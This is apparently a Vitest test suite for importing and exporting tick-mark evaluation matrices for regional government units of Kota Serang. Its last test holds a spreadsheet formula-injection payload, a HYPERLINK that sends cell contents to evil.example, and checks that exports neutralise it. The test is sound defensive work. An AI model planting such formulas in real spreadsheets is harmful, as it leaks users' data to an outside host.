import { readFileSync } from 'node:fs';
import { eq } from 'drizzle-orm';
import { readSheet } from 'read-excel-file/universal';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ParsedMatrix, ParseResult } from '../../src/lib/import';
import { SYSTEM_ACTORS } from '../../src/lib/server/audit/audit';
import type { DB } from '../../src/lib/server/db';
import { periods } from '../../src/lib/server/db/schema';
import { exportFile } from '../../src/lib/server/results/export';
import { readImportFile } from '../../src/lib/server/import/file';
import { commitImport, planImport } from '../../src/lib/server/import/matrix';
import { bigCsv } from './helpers/big-csv';
import { createTestDb } from './helpers/test-db';

const DIR = 'tests/fixtures/import';
const read = (name: string, sheet?: string) =>
	readImportFile({ name, bytes: readFileSync(`${DIR}/${name}`), ...(sheet ? { sheet } : {}) });

function matrixOf(result: ParseResult): ParsedMatrix {
	if (!result.ok) throw new Error(result.errors.map((e) => e.message).join('\n'));
	return result.matrix;
}

let db: DB;
let cleanup: () => Promise<void>;
beforeAll(async () => {
	({ db, cleanup } = await createTestDb('demo'));
});
afterAll(async () => cleanup());

describe('every accepted format reads to the same matrix', () => {
	it.each([
		['semicolon-2022.csv'],
		['pasted-2022.tsv'],
		['first-sheet-2022.xlsx'],
		['matrix-2022.xlsx', 'Matriks']
	])('%s %s', async (name, sheet?: string) => {
		const reference = matrixOf(await read('template-2022.csv'));
		expect(reference.rows).toHaveLength(8);
		expect(reference.headers).toHaveLength(13);
		const other = matrixOf(await read(name, sheet));
		expect(other.headers).toEqual(reference.headers);
		expect(other.rows.map((r) => [r.number, r.name, r.cells])).toEqual(
			reference.rows.map((r) => [r.number, r.name, r.cells])
		);
	});

	it('reads every tick spelling', async () => {
		// The fixture cycles through these marks: cell (i, j) holds MARKS[(i + j) % 11].
		const MARKS = ['√', '✓', 'v', '1', 'ya', 'ada', '', '0', '-', 'tidak', 'n/a'];
		const expected = (mark: string) =>
			mark === 'n/a'
				? { value: null, notApplicable: true }
				: mark === ''
					? { value: 0, notApplicable: false, blank: true }
					: { value: MARKS.indexOf(mark) < 6 ? 1 : 0, notApplicable: false };
		const m = matrixOf(await read('tick-vocabulary-2022.csv'));
		m.rows.forEach((row, i) =>
			row.cells.forEach((cell, j) => expect(cell).toEqual(expected(MARKS[(i + j) % 11]!)))
		);
	});

	it('reads the annual-report table with a row wrapped over two lines', async () => {
		const m = matrixOf(await read('report-table-2022.txt'));
		expect(m.rows.map((r) => r.name)).toEqual([
			'Satuan Polisi Pamong Praja Pemerintah Kota Serang',
			'Dinas Komunikasi dan Informatika Kota Serang',
			'Kecamatan Kasemen Kota Serang',
			'Badan Pendapatan Daerah Kota Serang'
		]);
		expect(m.rows[3]!.cells[0]).toEqual({ value: null, notApplicable: true });
	});

	it('previews the template for a new year: fuzzy matches, one new OPD', async () => {
		const plan = await planImport(
			{ year: 2022, matrix: matrixOf(await read('template-2022.csv')), source: 't' },
			db
		);
		expect(plan.errors).toEqual([]);
		const bySlug = Object.fromEntries(plan.rows.map((r) => [r.name, r.opd]));
		expect(bySlug['Satpol PP']).toBe('satuan-polisi-pamong-praja');
		expect(bySlug['Kec. Kasemen']).toBe('kecamatan-kasemen');
		expect(bySlug['Dukcapil']).toBe('dinas-kependudukan-dan-pencatatan-sipil');
		expect(plan.rows.filter((r) => r.isNew).map((r) => r.name)).toContain(
			'Kelurahan Cipare Kota Serang'
		);
	});
});

describe('broken files are refused with located, actionable errors', () => {
	it.each([
		['wrong-delimiter.csv', /dipisah titik koma/, 2],
		['non-tick.csv', /Baris 4, kolom 6 .*"x".*berarti "ada"/, 4],
		['empty.csv', /kosong/, 0],
		['binary.csv', /bukan teks/, 0]
	])('%s', async (name, message, line) => {
		const result = await read(name);
		expect(result.ok).toBe(false);
		if (result.ok) return;
		expect(result.errors[0]!.message).toMatch(message);
		expect(result.errors[0]!.line).toBe(line);
	});

	it('non-tick.csv names every bad cell, not only the first', async () => {
		const result = await read('non-tick.csv');
		expect(!result.ok && result.errors.map((e) => [e.line, e.column])).toEqual([
			[4, 6],
			[6, 4]
		]);
	});

	it('a sheet that does not exist', async () => {
		const result = await read('matrix-2022.xlsx', 'Tidak Ada');
		expect(!result.ok && result.errors[0]!.message).toMatch(/tidak ada/);
	});

	it('duplicate-row.csv: two names for one OPD are caught when matched', async () => {
		const plan = await planImport(
			{ year: 2022, matrix: matrixOf(await read('duplicate-row.csv')), source: 'd' },
			db
		);
		expect(plan.errors).toHaveLength(1);
		expect(plan.errors[0]!.line).toBe(10);
		expect(plan.errors[0]!.message).toMatch(/OPD yang sama dengan baris 2/);
	});

	it("unknown-opd.csv: OPDs outside an existing year's roster", async () => {
		await db.update(periods).set({ status: 'evaluation' }).where(eq(periods.year, 2021));
		const plan = await planImport(
			{ year: 2021, matrix: matrixOf(await read('unknown-opd.csv')), source: 'u' },
			db
		);
		await db.update(periods).set({ status: 'published' }).where(eq(periods.year, 2021));
		expect(plan.errors.map((e) => e.line)).toEqual([8, 9]);
		expect(plan.errors[0]!.message).toMatch(/tidak terdaftar di periode 2021/);
	});

	it('a 50,000-row file parses in full', async () => {
		const result = await readImportFile({
			name: 'besar.csv',
			bytes: new TextEncoder().encode(bigCsv(50_000))
		});
		expect(matrixOf(result).rows).toHaveLength(50_000);
	}, 60_000);
});

describe('formula injection', () => {
	it('is imported as text and neutralised in every export', async () => {
		const matrix = matrixOf(await read('formula-injection.csv'));
		const evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
		expect(matrix.rows[7]!.name).toBe(evil);
		const outcome = await commitImport(
			{ year: 2023, matrix, source: 'f', actor: SYSTEM_ACTORS.cli },
			db
		);
		expect(outcome.ok).toBe(true);
		for (const view of ['matriks', 'rinci', 'templat'] as const) {
			const csv = await exportFile(2023, view, 'csv', db);
			const text = String(csv!.body);
			expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
			expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
			const xlsx = await exportFile(2023, view, 'xlsx', db);
			const rows = await readSheet((xlsx!.body as Uint8Array).buffer as ArrayBuffer);
			const cells = rows.flat().filter((c) => typeof c === 'string' && c.includes('HYPERLINK'));
			expect(cells.length).toBeGreaterThan(0);
			expect(cells.every((c) => String(c).startsWith("'="))).toBe(true);
		}
	});
});
